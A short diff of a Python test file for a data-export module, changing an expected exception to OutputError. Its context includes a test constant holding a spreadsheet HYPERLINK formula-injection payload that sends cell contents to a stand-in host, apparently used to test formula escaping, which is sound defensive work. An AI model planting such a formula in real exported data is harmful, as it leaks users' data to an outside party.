@@ -8,6 +8,7 @@ from datetime import UTC, datetime
 import polars as pl
 import pytest
 
+from resolution.errors import OutputError
 from resolution.publishing.export import csv_safe, escape_formula, export_tables, write_export
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'
@@ -69,5 +70,5 @@ def test_every_format_writes_every_table(tmp_path, fmt):
 
 
 def test_unknown_format_says_what_to_use(tmp_path):
-    with pytest.raises(ValueError, match=r"\.parquet, \.jsonl or \.csv"):
+    with pytest.raises(OutputError, match=r"\.parquet, \.jsonl or \.csv"):
         write_export(pl.DataFrame({"a": [1]}), tmp_path / "out.xlsx")
